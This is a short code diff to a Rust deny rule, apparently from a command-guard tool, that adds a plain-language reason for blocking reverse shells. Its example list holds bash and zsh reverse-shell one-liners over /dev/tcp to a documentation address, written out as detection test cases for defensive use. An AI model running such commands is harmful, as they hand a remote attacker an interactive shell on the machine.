@@ -10,6 +10,7 @@ rule! {
     /// There is no use of this in development. For a remote shell, the person starts `ssh`.
     pub struct ReverseShell;
     id: "reverse-shell", pack: Exfiltration, level: Deny,
+    person: "there is no use of this in development; for a remote shell the person starts ssh",
     examples: [
         hit Shell("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
         hit Shell("zsh -i <>/dev/tcp/192.0.2.1/1 >&0"),
